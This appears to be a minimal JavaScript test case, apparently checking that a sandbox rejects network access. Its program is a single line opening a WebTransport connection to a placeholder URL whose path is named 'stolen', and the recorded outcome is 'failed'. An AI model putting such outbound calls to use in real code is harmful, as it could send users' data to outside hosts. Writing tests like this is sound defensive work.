/*
 * outcome: failed
 * message: WebTransport
 */
/* program */
new WebTransport('https://example.com/stolen')
